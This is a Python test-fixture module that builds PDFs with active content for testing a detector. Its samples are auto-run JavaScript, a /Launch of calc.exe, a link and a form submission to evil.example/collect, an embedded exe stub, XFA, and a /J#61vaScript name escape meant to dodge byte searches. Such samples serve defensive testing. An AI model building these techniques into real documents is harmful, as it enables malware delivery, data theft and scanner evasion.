"""PDFs that carry active content, one per kind an attacker reaches for, built on a plain
one-page document with pyHanko's writer (and one written by hand, with an escaped name)."""

from __future__ import annotations

import io
from collections.abc import Callable
from functools import cache
from typing import Any

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.pdf_utils.writer import PdfFileWriter, copy_into_new_writer


@cache
def plain_pdf(text: str = "Zhiyin plain document") -> bytes:
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    page = canvas.Canvas(buffer)
    page.drawString(100, 750, text)
    page.showPage()
    page.save()
    return buffer.getvalue()


def _n(name: str) -> generic.NameObject:
    return generic.NameObject(name)


def _d(**entries: Any) -> generic.DictionaryObject:
    return generic.DictionaryObject({_n("/" + k): v for k, v in entries.items()})  # type: ignore[no-untyped-call]  # unannotated in pyHanko


def _built(change: Callable[[PdfFileWriter], None]) -> bytes:
    writer = copy_into_new_writer(PdfFileReader(io.BytesIO(plain_pdf())))
    change(writer)
    out = io.BytesIO()
    writer.write(out)  # type: ignore[no-untyped-call]  # unannotated in pyHanko
    return out.getvalue()


def _first_page(writer: PdfFileWriter) -> generic.DictionaryObject:
    page: generic.DictionaryObject = writer.root["/Pages"]["/Kids"][0].get_object()
    return page


def _action(kind: str, **more: Any) -> generic.DictionaryObject:
    return _d(Type=_n("/Action"), S=_n(kind), **more)


def _open_action_js(w: PdfFileWriter) -> None:
    w.root[_n("/OpenAction")] = w.add_object(
        _action("/JavaScript", JS=generic.TextStringObject("app.alert('x')"))
    )


def _page_aa_js(w: PdfFileWriter) -> None:
    page = _first_page(w)
    page[_n("/AA")] = _d(O=_action("/JavaScript", JS=generic.TextStringObject("this.print()")))


def _names_js(w: PdfFileWriter) -> None:
    script = _action("/JavaScript", JS=generic.TextStringObject("app.alert(1)"))
    w.root[_n("/Names")] = _d(
        JavaScript=_d(Names=generic.ArrayObject([generic.TextStringObject("a"), script]))
    )


def _launch(w: PdfFileWriter) -> None:
    w.root[_n("/OpenAction")] = _action("/Launch", F=generic.TextStringObject("calc.exe"))


def _uri_link(w: PdfFileWriter) -> None:
    annotation = _d(
        Type=_n("/Annot"),
        Subtype=_n("/Link"),
        Rect=generic.ArrayObject([generic.NumberObject(v) for v in (0, 0, 100, 100)]),  # type: ignore[no-untyped-call]  # unannotated in pyHanko
        A=_action("/URI", URI=generic.TextStringObject("https://evil.example/")),
    )
    _first_page(w)[_n("/Annots")] = generic.ArrayObject([w.add_object(annotation)])


def _embedded_file(w: PdfFileWriter) -> None:
    stream = generic.StreamObject(_d(Type=_n("/EmbeddedFile")), stream_data=b"MZ payload")
    spec = _d(
        Type=_n("/Filespec"),
        F=generic.TextStringObject("a.exe"),
        EF=_d(F=w.add_object(stream)),
    )
    w.root[_n("/Names")] = _d(
        EmbeddedFiles=_d(Names=generic.ArrayObject([generic.TextStringObject("a"), spec]))
    )


def _xfa(w: PdfFileWriter) -> None:
    xdp = generic.StreamObject(stream_data=b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    w.root[_n("/AcroForm")] = _d(Fields=generic.ArrayObject(), XFA=w.add_object(xdp))


def _acroform_js(w: PdfFileWriter) -> None:
    field = _d(
        FT=_n("/Tx"),
        T=generic.TextStringObject("amount"),
        AA=_d(K=_action("/JavaScript", JS=generic.TextStringObject("event.value='0'"))),
    )
    w.root[_n("/AcroForm")] = _d(Fields=generic.ArrayObject([w.add_object(field)]))


def _submit_form(w: PdfFileWriter) -> None:
    w.root[_n("/OpenAction")] = _action(
        "/SubmitForm", F=generic.TextStringObject("https://evil.example/collect")
    )


def escaped_name_js() -> bytes:
    """A hand-written PDF whose action is spelled /J#61vaScript: a byte search for
    "JavaScript" misses it, a PDF reader (and the parser) does not."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, xref))  # fmt: skip
    return out.getvalue()


#: kind of attack → (its PDF, the kind the detector must name)
ACTIVE_SAMPLES: dict[str, tuple[Callable[[], bytes], str]] = {
    "openaction_js": (lambda: _built(_open_action_js), "javascript"),
    "page_open_js": (lambda: _built(_page_aa_js), "javascript"),
    "document_js": (lambda: _built(_names_js), "javascript"),
    "launch": (lambda: _built(_launch), "launch"),
    "uri_link": (lambda: _built(_uri_link), "uri"),
    "embedded_file": (lambda: _built(_embedded_file), "embedded_file"),
    "xfa": (lambda: _built(_xfa), "xfa"),
    "acroform_js": (lambda: _built(_acroform_js), "javascript"),
    "submit_form": (lambda: _built(_submit_form), "submit"),
    "escaped_name_js": (escaped_name_js, "javascript"),
}
